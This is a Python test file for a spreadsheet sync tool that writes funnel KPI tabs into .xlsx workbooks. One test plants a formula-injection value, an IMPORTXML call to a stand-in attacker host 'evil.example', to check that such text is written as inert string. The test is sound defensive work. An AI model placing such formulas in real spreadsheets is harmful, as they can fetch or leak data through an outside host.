"""End to end on real .xlsx files: read with calamine, the KPI tab written in, read back."""

from __future__ import annotations

import os
import subprocess
import sys
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest

from funnel_kpi.api import compute_report
from sheets_sync.backends.xlsx import XlsxBackend
from sheets_sync.errors import InputError, WriteConflict
from sheets_sync.job import SyncOptions, SyncState, run_sync
from sheets_sync.render import DEFAULT_OUTPUT_TABS
from tests.sync.conftest import tab_hashes

TODAY = date(2026, 11, 23)
FIXED = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)


def sync(path: Path, state: SyncState | None = None, **kw: object):
    return run_sync(XlsxBackend(path), SyncOptions(today=TODAY, **kw), state,  # type: ignore[arg-type]
                    now=lambda: FIXED)


def test_ru_sync_writes_kpi_tab_matching_the_report(demo_ru: Path) -> None:
    before = tab_hashes(demo_ru, ["Воронка", "Сделки"])
    outcome = sync(demo_ru)
    assert outcome.status == "written" and outcome.output_tab == "Показатели"
    assert tab_hashes(demo_ru, ["Воронка", "Сделки"]) == before

    book = openpyxl.load_workbook(demo_ru)
    assert book.sheetnames == ["Воронка", "Сделки", "Показатели"]
    ws = book["Показатели"]
    assert ws["A1"].value.startswith("Показатели воронки")
    assert ws["A1"].comment is not None and "sheets-sync" in ws["A1"].comment.text

    snapshot = XlsxBackend(demo_ru).read(DEFAULT_OUTPUT_TABS)
    report = compute_report(snapshot.tabs, locale="ru_RU", today=TODAY).to_dict()
    latest = [p for p in report["periods"] if not p["in_progress"]][-1]
    rows = [[c.value for c in r] for r in ws.iter_rows()]
    header = next(i for i, r in enumerate(rows) if r[0] == "Стадия")
    for i, stage in enumerate(latest["stages"], start=header + 1):
        assert rows[i][0] == stage["label_ru"]
        assert rows[i][1] == stage["count"]
        if stage["step_conversion"] is None:
            assert rows[i][2] is None
        else:
            assert rows[i][2] == pytest.approx(stage["step_conversion"], abs=1e-12)
            assert ws.cell(i + 1, 3).number_format == "0.0%"
    assert ws._charts, "the funnel chart is in the tab"


def test_en_sync_uses_kpi_tab_and_english_labels(demo_en: Path) -> None:
    outcome = sync(demo_en)
    assert outcome.output_tab == "KPI"
    ws = openpyxl.load_workbook(demo_en)["KPI"]
    assert ws["A1"].value.startswith("Funnel KPIs")
    assert any(r[0] == "Stage" for r in ws.iter_rows(values_only=True))


def test_second_sync_of_same_input_skips_the_write(demo_ru: Path) -> None:
    first = sync(demo_ru)
    mtime = os.stat(demo_ru).st_mtime_ns
    second = sync(demo_ru, first.state)
    assert second.status == "unchanged" and second.cells_written == 0
    assert os.stat(demo_ru).st_mtime_ns == mtime
    forced = sync(demo_ru, second.state, force=True)
    assert forced.status == "written"
    values = [list(r) for r in openpyxl.load_workbook(demo_ru)["Показатели"].iter_rows(
        values_only=True)]
    again = sync(demo_ru, forced.state, force=True)
    assert again.status == "written"
    assert [list(r) for r in openpyxl.load_workbook(demo_ru)["Показатели"].iter_rows(
        values_only=True)] == values, "two syncs of the same input write identical cells"


def test_other_sheets_formulas_and_formats_survive(demo_ru: Path) -> None:
    book = openpyxl.load_workbook(demo_ru)
    notes = book.create_sheet("Заметки")
    notes["A1"] = "=SUM(Воронка!B2:B25)"
    notes["B1"].number_format = "0.00%"
    book.save(demo_ru)
    sync(demo_ru)
    book = openpyxl.load_workbook(demo_ru)
    assert book["Заметки"]["A1"].value == "=SUM(Воронка!B2:B25)"
    assert book["Заметки"]["B1"].number_format == "0.00%"
    assert book["Воронка"]["J2"].number_format == '#,##0 "₽"'


def test_formula_like_text_is_written_as_text(demo_ru: Path) -> None:
    book = openpyxl.load_workbook(demo_ru)
    book["Воронка"]["C5"] = '=IMPORTXML("http://evil.example", "//a")'
    book["Воронка"]["C5"].data_type = "s"
    book.save(demo_ru)
    outcome = sync(demo_ru)
    assert outcome.problems >= 1
    ws = openpyxl.load_workbook(demo_ru)["Показатели"]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)
             and c.value.startswith("=IMPORTXML")]
    assert cells and all(c.data_type == "s" for c in cells)


def test_missing_column_fails_and_leaves_kpi_tab(demo_ru: Path) -> None:
    first = sync(demo_ru)
    before = [list(r) for r in openpyxl.load_workbook(demo_ru)["Показатели"].iter_rows(
        values_only=True)]
    book = openpyxl.load_workbook(demo_ru)
    book["Воронка"]["D1"] = "Что-то другое"  # "Брифы" renamed
    book.save(demo_ru)
    with pytest.raises(InputError, match=r"Брифы|qualified"):
        sync(demo_ru, first.state)
    after = [list(r) for r in openpyxl.load_workbook(demo_ru)["Показатели"].iter_rows(
        values_only=True)]
    assert after == before


def test_changed_file_between_read_and_write_is_refused(demo_ru: Path) -> None:
    backend = XlsxBackend(demo_ru)
    snapshot = backend.read(DEFAULT_OUTPUT_TABS)
    book = openpyxl.load_workbook(demo_ru)
    book["Воронка"]["B2"] = 1
    book.save(demo_ru)
    from sheets_sync.render import render

    report = compute_report(snapshot.tabs, locale="ru_RU", today=TODAY)
    grid = render(report, lang="ru", title="Показатели", synced_at=FIXED)
    with pytest.raises(WriteConflict):
        backend.write(grid, snapshot)
    assert "Показатели" not in openpyxl.load_workbook(demo_ru).sheetnames


def test_cli_compute_and_clear_errors(tmp_path: Path, demo_ru: Path) -> None:
    exe = [sys.executable, "-m", "sheets_sync"]
    ok = subprocess.run([*exe, "compute", str(demo_ru), "--today", "2026-11-23"],
                        capture_output=True, text=True, check=False)
    assert ok.returncode == 0, ok.stderr
    assert "Воронка" in ok.stdout and "Трафик" in ok.stdout
    missing = subprocess.run([*exe, "compute", str(tmp_path / "nope.xlsx")],
                             capture_output=True, text=True, check=False)
    assert missing.returncode == 2
    assert missing.stderr.startswith("error: ") and "Traceback" not in missing.stderr
    junk = tmp_path / "junk.xlsx"
    junk.write_bytes(b"not a zip")
    bad = subprocess.run([*exe, "compute", str(junk)], capture_output=True, text=True, check=False)
    assert bad.returncode == 2 and "Traceback" not in bad.stderr
    empty = tmp_path / "empty.xlsx"
    openpyxl.Workbook().save(empty)
    none = subprocess.run([*exe, "compute", str(empty)], capture_output=True, text=True,
                          check=False)
    assert none.returncode == 2 and "Traceback" not in none.stderr


def test_a_users_own_kpi_tab_is_never_overwritten(tmp_path: Path) -> None:
    import shutil

    from tests.sync.conftest import TEMPLATES

    path = tmp_path / "funnel_summary_ru.xlsx"
    shutil.copy(TEMPLATES / "funnel_summary_ru.xlsx", path)
    def cells() -> list[list[object]]:
        ws = openpyxl.load_workbook(path)["Показатели"]
        return [[getattr(c.value, "text", c.value) for c in r] for r in ws.iter_rows()]

    before = cells()
    with pytest.raises(InputError, match="did not write"):
        sync(path)
    assert cells() == before, "the template's formulas are still there"
    outcome = sync(path, output_tab="Показатели (сервис)")
    assert outcome.status == "written"
    assert "Показатели" in openpyxl.load_workbook(path).sheetnames
